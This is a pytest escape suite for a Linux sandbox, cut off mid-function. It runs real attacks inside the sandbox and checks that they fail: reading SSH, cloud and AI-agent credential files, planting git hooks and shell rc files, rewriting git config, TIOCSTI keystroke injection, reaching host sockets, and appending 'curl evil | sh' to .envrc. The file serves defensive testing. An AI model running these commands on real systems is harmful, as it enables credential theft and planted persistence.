"""The escape suite: each attack runs for real inside the sandbox, as root and as
an unprivileged user (the ``box`` fixture), and must fail; where it makes sense
the legitimate neighbour of the attack must succeed in the same setup, so a
sandbox that simply breaks everything does not pass.

Assertions look at the *host* (is the file there? is the hook there? is the
process alive?) rather than at error messages, because inside the sandbox a
write can also "succeed" into a private tmpfs that vanishes.
"""

from __future__ import annotations

import contextlib
import os
import secrets
import shlex
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from escape_harness import DRIVER, GIT_IDENTITY, REPO, Box, processes_matching

from governor.sandbox.host.bwrap import locate

CANARY = "CANARY-" + secrets.token_hex(6)


def marker() -> str:
    return "govtest-" + secrets.token_hex(4)


def wait_gone(needle: str, seconds: float = 3.0) -> list[int]:
    """Poll until no host process matches (the kernel tears a namespace down
    asynchronously); return what is still alive, after killing it."""
    deadline = time.monotonic() + seconds
    alive = processes_matching(needle)
    while alive and time.monotonic() < deadline:
        time.sleep(0.02)
        alive = processes_matching(needle)
    for pid in alive:
        with contextlib.suppress(ProcessLookupError):
            os.kill(pid, signal.SIGKILL)
    return alive


# --- host-side servers ------------------------------------------------------


@contextlib.contextmanager
def serve(sock: socket.socket) -> Iterator[None]:
    """Answer every connection with a banner until the block ends."""
    sock.listen(8)
    sock.settimeout(0.1)
    stop = threading.Event()

    def loop() -> None:
        while not stop.is_set():
            try:
                conn, _ = sock.accept()
            except (TimeoutError, OSError):
                continue
            with conn:
                conn.sendall(b"BANNER-" + CANARY.encode() + b"\n")

    thread = threading.Thread(target=loop, daemon=True)
    thread.start()
    try:
        yield
    finally:
        stop.set()
        thread.join()
        sock.close()


@contextlib.contextmanager
def tcp_server() -> Iterator[int]:
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    with serve(sock):
        yield sock.getsockname()[1]


@contextlib.contextmanager
def unix_server(path: str, box: Box | None = None) -> Iterator[str]:
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(path)
    if not path.startswith("\0"):
        os.chmod(path, 0o777)
        if box is not None:
            box.own(Path(path))
    try:
        with serve(sock):
            yield path
    finally:
        if not path.startswith("\0"):
            with contextlib.suppress(FileNotFoundError):
                os.unlink(path)


CONNECT = """
import errno, socket, sys
family, address = sys.argv[1], sys.argv[2]
try:
    if family == "tcp":
        s = socket.create_connection(("127.0.0.1", int(address)), timeout=3)
    else:
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(3)
        s.connect(address.replace("@", "\\0", 1) if address.startswith("@") else address)
    print(s.recv(100).decode().strip())
except OSError as e:
    print("ERR", errno.errorcode.get(e.errno, e))
"""


def connect_tcp(port: int) -> str:
    return f"python3 -c {shlex.quote(CONNECT)} tcp {port}"


def connect_unix(path: str) -> str:
    return f"python3 -c {shlex.quote(CONNECT)} unix {shlex.quote(path.replace(chr(0), '@', 1))}"


def syscalls(*calls: tuple[str, int, tuple[int, ...]]) -> str:
    """A python3 -c line that calls raw syscalls and prints ``name=ERRNO``."""
    body = "; ".join(
        f"r=libc.syscall({nr}, *[ctypes.c_long(a) for a in {list(args)!r}]); "
        f"print('{name}=' + (errno.errorcode[ctypes.get_errno()] if r < 0 else 'ok'))"
        for name, nr, args in calls
    )
    return (
        "python3 -c \"import ctypes, errno; libc = ctypes.CDLL(None, use_errno=True); "
        "libc.syscall.restype = ctypes.c_long; " + body + "\""
    )


def nr(name: str) -> int:
    from governor.sandbox.plan.seccomp import native_arch

    return native_arch().syscalls[name]


# === filesystem: writes outside the roots ===================================


def test_writing_to_etc_fails(box: Box) -> None:
    name = marker()
    outcome = box.run(f"echo pwn > /etc/{name}; echo pwn >> /etc/hostname; echo ok > inside.txt")
    assert not Path(f"/etc/{name}").exists()
    assert "pwn" not in Path("/etc/hostname").read_text()
    assert (box.ws / "inside.txt").read_text() == "ok\n", outcome.text  # neighbour


def test_writing_to_the_real_home_fails(box: Box) -> None:
    name = marker()
    real_home = Path(box.account.home)
    box.run(f"touch ~/{name} {real_home}/{name}.2", home=None)
    assert not (real_home / name).exists() and not (real_home / f"{name}.2").exists()
    # neighbour: a folder the profile keeps writable is written through to the host
    box.mkdir(box.home / ".keep")
    box.run("echo kept > ~/.keep/state", home_folders=[(".keep", True)])
    assert (box.home / ".keep" / "state").read_text() == "kept\n"


def test_writing_to_a_sibling_directory_fails(box: Box) -> None:
    box.run(
        f"echo pwn > {box.sibling}/new.txt; echo pwn >> {box.sibling}/existing.txt; "
        "echo pwn > ../sibling/new2.txt"
    )
    assert sorted(p.name for p in box.sibling.iterdir()) == ["existing.txt"]
    assert (box.sibling / "existing.txt").read_text() == "sibling content"
    # neighbour: the same directory named as an extra root is writable
    box.run(f"echo ok > {box.sibling}/granted.txt", extra_roots=[box.sibling])
    assert (box.sibling / "granted.txt").read_text() == "ok\n"


def test_writing_through_a_planted_symlink_fails(box: Box) -> None:
    (box.ws / "out-link").symlink_to(box.sibling / "existing.txt")
    (box.ws / "etc-link").symlink_to("/etc/hostname")
    box.write(box.ws / "inner.txt", "inner")
    (box.ws / "in-link").symlink_to(box.ws / "inner.txt")
    for link in ("out-link", "etc-link", "in-link"):
        box.own(box.ws / link)
    hostname = Path("/etc/hostname").read_text()
    box.run("echo pwn >> out-link; echo pwn >> etc-link; echo more >> in-link")
    assert (box.sibling / "existing.txt").read_text() == "sibling content"
    assert Path("/etc/hostname").read_text() == hostname
    assert (box.ws / "inner.txt").read_text() == "innermore\n"  # neighbour


def test_a_symlink_made_inside_cannot_reach_outside(box: Box) -> None:
    name = marker()
    box.run(
        f"ln -s {box.sibling} s && echo pwn > s/new.txt; ln -s /etc e && echo pwn > e/{name}; "
        "mkdir sub && ln -s sub s2 && echo ok > s2/f"
    )
    assert not (box.sibling / "new.txt").exists()
    assert not Path(f"/etc/{name}").exists()
    assert (box.ws / "sub" / "f").read_text() == "ok\n"  # neighbour


def test_dot_dot_traversal_fails(box: Box) -> None:
    name = marker()
    box.run(
        f"echo pwn > ../sibling/new.txt; echo pwn > ../../../../../../../etc/{name}; "
        f"cd .. && touch {name}; cd ws 2>/dev/null; echo ok > ../ws/through-dots"
    )
    assert not (box.sibling / "new.txt").exists()
    assert not Path(f"/etc/{name}").exists()
    assert not (box.dir / name).exists()  # written into a tmpfs scaffold, not the host
    assert (box.ws / "through-dots").read_text() == "ok\n"  # neighbour


def test_proc_self_root_does_not_bypass_the_read_only_view(box: Box) -> None:
    name = marker()
    box.run(
        f"echo pwn > /proc/self/root{box.sibling}/new.txt; echo pwn > /proc/self/root/etc/{name}; "
        f"echo ok > /proc/self/root{box.ws}/via-proc"
    )
    assert not (box.sibling / "new.txt").exists()
    assert not Path(f"/etc/{name}").exists()
    assert (box.ws / "via-proc").read_text() == "ok\n"  # neighbour


def test_proc_1_root_and_host_processes_are_out_of_reach(box: Box) -> None:
    box.write(box.home / ".ssh" / "id_ed25519", CANARY)
    outcome = box.run(
        f"cat /proc/1/root{box.home}/.ssh/id_ed25519; ls /proc | grep -c '^[0-9]'; "
        f"test -e /proc/{os.getpid()} && echo HOST-PID-VISIBLE; cat /proc/self/status | head -1"
    )
    assert CANARY not in outcome.text
    assert "HOST-PID-VISIBLE" not in outcome.text
    count = next(int(line) for line in outcome.text.splitlines() if line.isdigit())
    assert count < 10  # the sandbox's own few processes
    assert "Name:" in outcome.text  # neighbour: its own /proc works


# === filesystem: secrets =====================================================


def test_reading_ssh_keys_fails(box: Box) -> None:
    box.write(box.home / ".ssh" / "id_ed25519", CANARY)
    box.write(box.home / ".config" / "tool" / "settings", "tool-settings")
    outcome = box.run(
        f"cat ~/.ssh/id_ed25519 {box.home}/.ssh/id_ed25519; find ~ -type f; "
        "cat ~/.config/tool/settings; echo pwn > ~/.config/tool/settings",
        home_folders=[(".config/tool", False)],
    )
    assert CANARY not in outcome.text
    assert "tool-settings" in outcome.text  # neighbour: a kept read-only folder is readable
    assert (box.home / ".config" / "tool" / "settings").read_text() == "tool-settings"


def test_reading_cloud_and_tool_credentials_fails(box: Box) -> None:
    paths = [
        ".aws/credentials", ".config/gcloud/credentials.db", ".kube/config", ".netrc",
        ".docker/config.json", ".git-credentials", ".config/gh/hosts.yml", ".pypirc",
        ".npmrc", ".gnupg/private-keys-v1.d/key",
    ]
    for rel in paths:
        box.write(box.home / rel, CANARY)
    outcome = box.run(" ; ".join(f"cat {box.home}/{rel} ~/{rel}" for rel in paths) + "; echo done")
    assert CANARY not in outcome.text
    assert outcome.text.endswith("done\n")


def test_commands_cannot_read_agent_credentials_but_the_agent_can_read_its_own(box: Box) -> None:
    files = [".claude/.credentials.json", ".codex/auth.json", ".gemini/oauth_creds.json"]
    for rel in files:
        box.write(box.home / rel, f"{CANARY}-{rel}")
    command = "; ".join(f"cat ~/{rel}" for rel in files)
    outcome = box.run(command)
    assert CANARY not in outcome.text
    agent = box.run(command, home_folders=[(".claude", True)], network=True)
    assert f"{CANARY}-.claude/.credentials.json" in agent.text  # neighbour
    assert f"{CANARY}-.codex/auth.json" not in agent.text


@contextlib.contextmanager
def planted(box: Box, home: Path, rels: tuple[str, ...], text: str) -> Iterator[list[str]]:
    """Plant ``text`` at each of ``rels`` under ``home`` where nothing is there
    yet, and remove what was made afterwards. A real file already there (root's
    own ``~/.npmrc``) is left alone and never read: the test then checks that
    the sandbox cannot even see it. Yields the paths planted."""
    made: list[Path] = []
    files: list[str] = []
    try:
        for rel in rels:
            path = home / rel
            if path.exists() or path.is_symlink():
                continue
            missing = [p for p in (path.parent, *path.parent.parents) if not p.exists()]
            made += reversed(missing)
            for directory in reversed(missing):
                directory.mkdir(mode=0o700)
                box.own(directory)
            box.write(path, text, mode=0o600)
            made.append(path)
            files.append(str(path))
        yield files
    finally:
        for path in reversed(made):
            with contextlib.suppress(OSError):
                path.rmdir() if path.is_dir() else path.unlink()


def test_both_homes_stay_hidden_when_home_is_not_the_passwd_home(box: Box) -> None:
    """The two-homes attack: ``HOME`` names a directory that is not the password
    database's home (as CI containers do: ``HOME=/github/home``), for the
    governor and for the command, with the workspace under the passwd home (as
    in ``~/src/project``). Secrets in either home stay unreadable, whichever
    way the command names that home."""
    if os.getuid() != 0:
        pytest.skip("a HOME outside every home and /tmp (as /github/home) is made under /srv")
    outside = Path("/srv") / marker()
    ci_home = outside / "home"
    passwd_home = Path(box.account.home)
    assert box.ws.is_relative_to(passwd_home)  # the harness's layout, the usual one
    secrets = (".ssh/id_ed25519", ".npmrc")
    user = box.account.name
    try:
        for rel in secrets:
            box.write(ci_home / rel, f"{CANARY}-ci-{rel}", mode=0o600)
        box.write(ci_home / ".config" / "tool" / "settings", "kept-settings")
        box.write(box.ws / "notes.txt", "workspace-notes")
        with planted(box, passwd_home, secrets, f"{CANARY}-passwd") as planted_files:
            ours = [rel for rel in secrets if str(passwd_home / rel) in planted_files]
            names = [  # each home, named every way a command can name it
                *(f"$HOME/{rel}" for rel in secrets),
                *(f"{ci_home}/{rel}" for rel in secrets),
                *(f"{passwd_home}/{rel}" for rel in secrets),
                *(f'"$pw"/{rel}' for rel in secrets),
                *(f"~{user}/{rel}" for rel in secrets),
            ]
            read = names[: 2 * len(secrets)] + [  # a real file is looked for, not read
                name for name in names[2 * len(secrets) :] if name.endswith(tuple(ours))
            ]
            outcome = box.run(
                f"pw=$(getent passwd {user} | cut -d: -f6); echo \"passwd home: $pw\"; "
                f"for f in {' '.join(names)}; do test -e \"$f\" && echo \"VISIBLE $f\"; done; "
                f"cat {' '.join(read)} ~/.config/tool/settings notes.txt 2>/dev/null",
                home=None,
                env={"HOME": str(ci_home)},
                environ={"HOME": str(ci_home)},
                home_folders=[(".config/tool", False)],
            )
    finally:
        shutil.rmtree(outside, ignore_errors=True)
    assert planted_files or user == "root", "nothing planted in the passwd home"
    assert f"passwd home: {passwd_home}\n" in outcome.text  # getent worked inside
    assert CANARY not in outcome.text
    assert "VISIBLE" not in outcome.text, outcome.text
    assert "kept-settings" in outcome.text  # neighbour: a kept folder of $HOME
    assert "workspace-notes" in outcome.text  # neighbour: the workspace under the passwd home


def test_env_files_in_the_workspace_are_unreadable(box: Box) -> None:
    box.write(box.ws / ".env", CANARY)
    box.write(box.ws / "svc" / ".env.production", CANARY)
    box.write(box.ws / "env.txt", "plain")
    for capability in ("read-only", "edit-workspace"):
        outcome = box.run("cat .env svc/.env.production env.txt", capability=capability)
        assert CANARY not in outcome.text
        assert "plain" in outcome.text  # neighbour


def test_the_governors_environment_does_not_leak(box: Box) -> None:
    secret = f"{CANARY}-ENV"
    outcome = box.run(
        "env; for f in /proc/*/environ; do tr '\\0' '\\n' < $f; done 2>/dev/null",
        env={"DECLARED": "declared-value"},
        environ={"GOVTEST_SECRET": secret, "ANTHROPIC_API_KEY": secret},
    )
    assert secret not in outcome.text
    assert "DECLARED=declared-value" in outcome.text  # neighbour


def test_the_host_tmp_is_not_visible_and_the_private_tmp_works(box: Box) -> None:
    name = marker()
    canary = Path(f"/tmp/{name}")
    canary.write_text(CANARY)
    canary.chmod(0o644)
    try:
        outcome = box.run(f"cat /tmp/{name}; echo inner > /tmp/{name}.inner && cat /tmp/{name}.inner")
    finally:
        canary.unlink()
    assert CANARY not in outcome.text
    assert "inner" in outcome.text  # neighbour: a private /tmp
    assert not Path(f"/tmp/{name}.inner").exists()


# === network and sockets =====================================================


def test_loopback_tcp_is_unreachable_without_network_and_reachable_with_it(box: Box) -> None:
    with tcp_server() as port:
        off = box.run(connect_tcp(port))
        on = box.run(connect_tcp(port), network=True)
    assert CANARY not in off.text and "ERR" in off.text
    assert f"BANNER-{CANARY}" in on.text  # neighbour


def test_a_unix_socket_is_refused_by_the_filter_only_where_the_host_network_is_shared(
    box: Box,
) -> None:
    with unix_server(str(box.ws / "a.sock"), box) as path:
        shared = box.run(connect_unix(path), network=True)
        own = box.run(connect_unix(path))
    assert shared.text.strip() == "ERR EPERM"
    # neighbour: with a network namespace of its own a command may make Unix
    # sockets, and a socket inside its roots is its own to reach
    assert f"BANNER-{CANARY}" in own.text


SERVE_AND_CONNECT = r"""
import os, socket, subprocess, sys
path = sys.argv[1]
server = subprocess.Popen([sys.executable, "-c", "\n".join([
    "import socket, sys",
    "s = socket.socket(socket.AF_UNIX)",
    "s.bind(sys.argv[1])",
    "s.listen(1)",
    "print('listening', flush=True)",
    "conn, _ = s.accept()",
    "conn.sendall(conn.recv(100).upper())",
]), path], stdout=subprocess.PIPE, text=True)
assert server.stdout.readline() == "listening\n"
client = socket.socket(socket.AF_UNIX)
client.connect(path)
client.sendall(b"ping " + path.encode())
print(client.recv(100).decode())
server.wait(timeout=10)
os.unlink(path)
"""


def test_a_unix_socket_server_and_client_work_in_the_workspace_and_the_private_tmp(
    box: Box,
) -> None:
    serve = f"python3 -c {shlex.quote(SERVE_AND_CONNECT)}"
    outcome = box.run(f"{serve} ./t.sock && {serve} /tmp/t.sock")
    assert "PING ./T.SOCK" in outcome.text, outcome.text
    assert "PING /TMP/T.SOCK" in outcome.text, outcome.text
    assert not (box.ws / "t.sock").exists()


@contextlib.contextmanager
def host_daemon_sockets(box: Box) -> Iterator[list[str]]:
    """Host servers on sockets where daemons keep theirs: under ``/run`` (hidden
    by its tmpfs) and elsewhere outside the roots (found by the survey's scan
    and masked), each world-writable and owned by the user under test, so that
    only the sandbox stands between the user and the server."""
    if os.getuid() != 0:
        pytest.skip("making a socket under /run, /srv and /var/lib needs root")
    name = marker()
    dirs = [Path(f"/run/{name}"), Path(f"/var/lib/{name}")]
    paths = [
        f"/run/{name}/daemon.sock", f"/run/{name}.sock", f"/srv/{name}.sock",
        f"/var/lib/{name}/mysqld.sock",
    ]
    for directory in dirs:
        directory.mkdir(mode=0o755)
    try:
        with contextlib.ExitStack() as stack:
            yield [stack.enter_context(unix_server(path, box)) for path in paths]
    finally:
        for directory in dirs:
            shutil.rmtree(directory, ignore_errors=True)


def test_host_daemon_sockets_stay_unreachable_where_unix_sockets_are_allowed(box: Box) -> None:
    with host_daemon_sockets(box) as daemons, unix_server(str(box.ws / "d.sock"), box) as own:
        outcome = box.run(" ; ".join(connect_unix(path) for path in (*daemons, own)))
    lines = outcome.text.strip().splitlines()
    assert len(lines) == len(daemons) + 1, outcome.text
    for path, line in zip(daemons, lines, strict=False):
        # under /run: not there (a tmpfs); elsewhere /dev/null, which no one listens on
        expected = "ERR ENOENT" if path.startswith("/run/") else "ERR ECONNREFUSED"
        assert line == expected, (path, line)
    assert lines[-1] == f"BANNER-{CANARY}"  # neighbour: the same server, in the workspace


def test_a_host_daemon_that_makes_its_socket_again_stays_unreachable(box: Box) -> None:
    """A daemon's restart unlinks its socket and binds a new one at the same
    path; the kernel then detaches a sandbox's ``/dev/null`` from the old one.
    The next command (in the same session's sandbox, or a bwrap of its own) is
    kept from the new socket all the same."""
    if os.getuid() != 0:
        pytest.skip("making a socket under /srv needs root")
    path = f"/srv/{marker()}.sock"
    go, restarted = box.ws / "go", box.ws / "restarted"
    first, second = contextlib.ExitStack(), contextlib.ExitStack()
    first.enter_context(unix_server(path, box))

    def restart() -> None:
        deadline = time.monotonic() + 60
        while not go.exists() and time.monotonic() < deadline:
            time.sleep(0.02)
        first.close()  # the daemon stops: its socket is unlinked
        second.enter_context(unix_server(path, box))  # and starts again
        box.write(restarted)

    thread = threading.Thread(target=restart, daemon=True)
    thread.start()
    try:
        with unix_server(str(box.ws / "e.sock"), box) as own:
            outcome = box.run(
                f"{connect_unix(path)} > before.txt; touch go; i=0; "
                "while [ ! -e restarted ] && [ $i -lt 1200 ]; do sleep 0.05; i=$((i+1)); done",
                then=f"{connect_unix(path)}; {connect_unix(own)}",
            )
    finally:
        thread.join(timeout=60)
        first.close()
        second.close()
    assert (box.ws / "before.txt").read_text().strip() == "ERR ECONNREFUSED"
    assert restarted.exists()
    assert outcome.text.strip().splitlines() == ["ERR ECONNREFUSED", f"BANNER-{CANARY}"]


def test_sockets_under_run_user_are_hidden(box: Box) -> None:
    run_user = Path(f"/run/user/{box.uid}")
    created = not run_user.exists()
    if created and not os.access(run_user.parent if run_user.parent.exists() else "/run", os.W_OK):
        pytest.skip(f"{run_user} does not exist (no login session made it) and only root may make it")
    if created:
        run_user.mkdir(parents=True, mode=0o700)
        os.chown(run_user, box.uid, box.gid)
    try:
        with unix_server(str(run_user / "gov.sock"), box) as hidden, unix_server(
            str(box.ws / "b.sock"), box
        ) as visible:
            outcome = box.run(connect_unix(hidden) + "; " + connect_unix(visible))
    finally:
        if created:
            shutil.rmtree(run_user, ignore_errors=True)
    lines = outcome.text.strip().splitlines()
    assert lines[0] == "ERR ENOENT"
    assert lines[1] == f"BANNER-{CANARY}"  # neighbour


def test_the_docker_socket_is_masked(box: Box) -> None:
    docker = Path("/run/docker.sock")
    if docker.exists() and not docker.is_socket():
        pytest.skip("/run/docker.sock exists and is not a socket")
    owned = not docker.exists()
    if owned and not os.access("/run", os.W_OK):
        pytest.skip("/run/docker.sock does not exist and only root may make one")
    context = unix_server(str(docker), box) if owned else contextlib.nullcontext(str(docker))
    line = connect_unix(str(docker)) + "; " + connect_unix(str(box.ws / "c.sock"))
    with context, unix_server(str(box.ws / "c.sock"), box):
        # network off, where Unix sockets are allowed: /run is hidden all the same
        runs = [box.run(line)]
    for outcome in runs:
        lines = outcome.text.strip().splitlines()
        assert lines[0].startswith("ERR"), outcome.text
        assert lines[1] == f"BANNER-{CANARY}"  # neighbour


def test_an_abstract_socket_is_cut_off_by_the_netns_or_by_the_filter(box: Box) -> None:
    name = "\0" + marker()
    with unix_server(name):
        off = box.run(connect_unix(name))
        shared_filtered = box.run(connect_unix(name), network=True)
        host = subprocess.run([sys.executable, "-c", CONNECT, "unix", name.replace("\0", "@", 1)],
                              capture_output=True, text=True, timeout=30)  # fmt: skip
    assert off.text.strip() == "ERR ECONNREFUSED"  # its own netns: not the host's socket
    assert shared_filtered.text.strip() == "ERR EPERM"
    assert f"BANNER-{CANARY}" in host.stdout  # outside any sandbox it answers: why both walls


# === terminal injection ======================================================

TIOCSTI_PROBE = """python3 -c "
import pty, os, fcntl, termios, errno, sys
pid, fd = pty.fork()
if pid == 0:
    for name, req in (('TIOCSTI', 0x5412), ('TIOCSTI_HIGH', 0x5412 | 1 << 32), ('TIOCLINUX', 0x541C), ('TIOCGWINSZ', 0x5413)):
        try:
            fcntl.ioctl(0, req, bytes(8)); print(name, 'ok')
        except OSError as e:
            print(name, errno.errorcode[e.errno])
    sys.stdout.flush(); os._exit(0)
out = b''
while True:
    try:
        data = os.read(fd, 1000)
    except OSError:
        break
    if not data:
        break
    out += data
os.waitpid(pid, 0); print(out.decode().replace(chr(13), ''))
"
"""


def test_tiocsti_and_tioclinux_cannot_push_keystrokes_into_a_terminal(box: Box) -> None:
    outcome = box.run(TIOCSTI_PROBE)
    assert "TIOCSTI EPERM" in outcome.text
    assert "TIOCSTI_HIGH EPERM" in outcome.text  # CVE-2019-10063
    assert "TIOCLINUX EPERM" in outcome.text
    assert "TIOCGWINSZ ok" in outcome.text  # neighbour: the same tty, another ioctl


TTY_PROBE = """
import sys, trio
from pathlib import Path
from governor.policies.capability import Capability
from governor.sandbox.plan.profile import Profile
from governor.sandbox.run.runner import Command, run
from governor.sandbox.run.session import SandboxSession
profile = Profile(capability=Capability.EDIT_WORKSPACE, workspace=Path(sys.argv[1]), home=Path(sys.argv[2]))
command = Command.shell("printf 'IN%sED' JECT > /dev/tty; printf 'IN%sED' JECT >&0; tty")
async def in_session():
    async with SandboxSession(profile) as session:
        async with session.start(command.argv, profile, output_limit=4096) as execution:
            return await execution.finish()
if sys.argv[3] == "session":
    print("DONE", trio.run(in_session))
else:
    print("DONE", trio.run(run, command, profile).status)
"""


def test_the_governors_terminal_is_out_of_reach(box: Box) -> None:
    """The governor runs in a terminal (a pty here); the command must not be able
    to write to it or make it its controlling tty (``--new-session``)."""
    import pty

    prefix = [] if box.uid == os.getuid() else [
        "setpriv", f"--reuid={box.uid}", f"--regid={box.gid}", "--init-groups"
    ]
    python = sys.executable if box.uid == os.getuid() else _user_python(box)
    env = {"PYTHONPATH": f"{REPO}:{os.pathsep.join(sys.path)}", "PATH": "/usr/bin:/bin"}
    pid, master = pty.fork()
    if pid == 0:  # the child: a governor whose controlling terminal is the pty
        os.execvpe(prefix[0] if prefix else python,
                   [*prefix, python, "-c", TTY_PROBE, str(box.ws), str(box.home), box.via], env)
    seen = b""
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        try:
            data = os.read(master, 4096)
        except OSError:
            break
        if not data:
            break
        seen += data
    os.waitpid(pid, 0)
    os.close(master)
    text = seen.decode(errors="replace")
    assert "DONE" in text, text  # the governor ran the command
    assert "INJECTED" not in text


# === version control and auto-run configuration ==============================


def _git_state(ws: Path) -> dict[str, bytes]:
    git = ws / ".git"
    return {
        str(p.relative_to(git)): p.read_bytes()
        for p in git.rglob("*")
        if p.is_file() and "objects" not in p.parts and p.name != "index"
    }


def test_with_git_read_only_moving_git_away_and_rebuilding_it_with_a_hook_fails(box: Box) -> None:
    """The policy switch for jobs that must not commit: ``.git`` is pinned whole
    (where commits are allowed, test_escapes_git.py has the same attacks)."""
    proof = box.dir / marker()
    before = _git_state(box.ws)
    outcome = box.run(
        "git commit -q --allow-empty -m inside 2>&1; "
        "mv .git .git-old; rm -rf .git; git init -q . ; mkdir -p .git/hooks; "
        f"printf '#!/bin/sh\\ntouch {proof}\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; "
        "git status --short; git log --oneline | head -1",
        env=GIT_IDENTITY,
        git_read_only=True,
    )
    assert _git_state(box.ws) == before
    assert not (box.ws / ".git-old").exists()
    assert "init" in outcome.text  # neighbour: git works read-only inside
    assert "Read-only file system" in outcome.text  # ... and cannot commit
    assert box.git("log", "--format=%s").stdout.split() == ["init"]
    assert box.git("commit", "-q", "--allow-empty", "-m", "after").returncode == 0
    assert not proof.exists()  # the next host commit runs no planted hook


def test_writing_a_git_hook_fails(box: Box) -> None:
    proof = box.dir / marker()
    outcome = box.run(
        f"printf '#!/bin/sh\\ntouch {proof}\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; "
        "cat .git/HEAD"
    )
    assert not (box.ws / ".git" / "hooks" / "pre-commit").exists()
    assert "ref: refs/heads/main" in outcome.text  # neighbour
    box.git("commit", "-q", "--allow-empty", "-m", "x")
    assert not proof.exists()


def test_rewriting_git_config_fails(box: Box) -> None:
    config = (box.ws / ".git" / "config").read_bytes()
    outcome = box.run(
        "git config core.hooksPath /tmp/evil; git config core.fsmonitor 'touch /tmp/x'; "
        "echo '[alias] st = !touch /tmp/x' >> .git/config; git config --get core.bare"
    )
    assert (box.ws / ".git" / "config").read_bytes() == config
    assert "false" in outcome.text  # neighbour: reading the config works


def test_unmounting_the_read_only_pin_fails(box: Box) -> None:
    outcome = box.run(
        "umount .git; umount -l .git; echo pwn > .git/hooks/pre-commit; "
        + syscalls(("umount2", nr("umount2"), (0, 2)))
    )
    assert not (box.ws / ".git" / "hooks" / "pre-commit").exists()
    assert "umount2=EPERM" in outcome.text


def test_hardlinking_a_protected_file_into_the_workspace_fails(box: Box) -> None:
    config = (box.ws / ".git" / "config").read_bytes()
    box.run("ln .git/config cfg && echo pwn >> cfg; ln README.md readme2 && echo more >> readme2")
    assert (box.ws / ".git" / "config").read_bytes() == config
    assert not (box.ws / "cfg").exists()
    assert (box.ws / "README.md").read_text() == "hellomore\n"  # neighbour


def test_an_existing_vscode_folder_cannot_be_changed(box: Box) -> None:
    box.write(box.ws / ".vscode" / "settings.json", '{"a": 1}')
    outcome = box.run(
        "echo '{}' > .vscode/tasks.json; rm -rf .vscode; mv .vscode v; cat .vscode/settings.json"
    )
    assert sorted(p.name for p in (box.ws / ".vscode").iterdir()) == ["settings.json"]
    assert not (box.ws / "v").exists()
    assert '{"a": 1}' in outcome.text  # neighbour


def test_a_missing_vscode_folder_cannot_be_created_and_no_litter_remains(box: Box) -> None:
    box.run(
        "rm -rf .vscode; mkdir -p .vscode; echo '{}' > .vscode/tasks.json; "
        "mkdir docs && echo ok > docs/a"
    )
    assert not (box.ws / ".vscode").exists()
    assert (box.ws / "docs" / "a").read_text() == "ok\n"  # neighbour
    assert sorted(p.name for p in box.ws.iterdir()) == [".git", "README.md", "docs"]


def test_envrc_cannot_be_written_replaced_or_removed(box: Box) -> None:
    box.write(box.ws / ".envrc", "export A=1\n")
    outcome = box.run(
        "echo 'curl evil | sh' >> .envrc; rm -f .envrc; mv .envrc x; ln -sf /tmp/x .envrc; cat .envrc"
    )
    assert (box.ws / ".envrc").read_text() == "export A=1\n"
    assert not (box.ws / ".envrc").is_symlink()
    assert "export A=1" in outcome.text  # neighbour: readable


CONTROL_PLANE = [
    ".claude/settings.json", ".mcp.json", ".codex/config.toml", ".gemini/settings.json",
    ".acp-governor/policy.toml", ".cursor/rules", ".agents/skill.md",
]
RC_FILES = [
    ".bashrc", ".bash_profile", ".profile", ".zshrc", ".zprofile", ".gitconfig", ".npmrc",
    ".gitmodules", ".githooks/pre-commit", ".husky/pre-commit",
    ".devcontainer/devcontainer.json", ".idea/workspace.xml",
]


@pytest.mark.parametrize("group", [CONTROL_PLANE, RC_FILES], ids=["agent-config", "rc-and-hooks"])
def test_agent_config_rc_files_and_hook_dirs_cannot_be_planted(box: Box, group: list[str]) -> None:
    command = "; ".join(
        f"rm -rf {rel.split('/')[0]}; mkdir -p $(dirname {rel}); echo pwn > {rel}" for rel in group
    )
    box.run(command + "; echo ok > allowed.txt")
    planted = [rel for rel in group if (box.ws / rel.split("/")[0]).exists()]
    assert planted == []
    assert (box.ws / "allowed.txt").read_text() == "ok\n"  # neighbour


def test_a_nested_repository_cannot_be_tampered_with_or_renamed_away(box: Box) -> None:
    nested = box.mkdir(box.ws / "vendor" / "lib")
    box.git("init", "-q", cwd=nested)
    proof = box.dir / marker()
    hook = f"printf '#!/bin/sh\\ntouch {proof}\\n' > vendor/lib/.git/hooks/pre-commit"
    box.run(
        f"{hook}; mv vendor/lib vendor/lib2; mv vendor v2; rm -rf vendor/lib/.git; "
        f"git init -q vendor/lib; {hook}; echo code > vendor/lib/src.c"
    )
    assert not (nested / ".git" / "hooks" / "pre-commit").exists()
    assert not (box.ws / "vendor" / "lib2").exists() and not (box.ws / "v2").exists()
    assert (nested / "src.c").read_text() == "code\n"  # neighbour
    box.git("commit", "-q", "--allow-empty", "-m", "x", cwd=nested)
    assert not proof.exists()


def test_a_repository_one_command_makes_is_protected_from_the_next(box: Box) -> None:
    """In a session's sandbox the second command runs in mounts built before the
    repository existed: it is pinned for that command alone (governor.sandbox.run.session)."""
    proof = box.dir / marker()
    hook = f"printf '#!/bin/sh\\ntouch {proof}\\n' > made/.git/hooks/pre-commit"
    box.run(
        "git init -q made && echo code > made/src.c",
        then=f"{hook}; mv made made2; echo more >> made/src.c",
    )
    assert not (box.ws / "made" / ".git" / "hooks" / "pre-commit").exists()
    assert not (box.ws / "made2").exists()
    assert (box.ws / "made" / "src.c").read_text() == "code\nmore\n"  # neighbour
    box.git("commit", "-q", "--allow-empty", "-m", "x", cwd=box.ws / "made")
    assert not proof.exists()


def test_a_secret_file_one_command_writes_is_masked_from_the_next(box: Box) -> None:
    outcome = box.run(
        f"echo {CANARY} > .env.local; echo plain > notes.txt", then="cat .env.local notes.txt"
    )
    assert outcome.error is None
    assert CANARY not in outcome.text
    assert "plain" in outcome.text  # neighbour
    assert CANARY in (box.ws / ".env.local").read_text()  # it was written, only hidden


def test_a_worktrees_real_git_dir_in_an_extra_root_commits_but_stays_protected(box: Box) -> None:
    worktree = box.dir / "wt"
    assert box.git("worktree", "add", "-q", str(worktree)).returncode == 0
    gitdir = box.ws / ".git" / "worktrees" / "wt"
    common = (gitdir / "commondir").read_bytes()
    outcome = box.run(
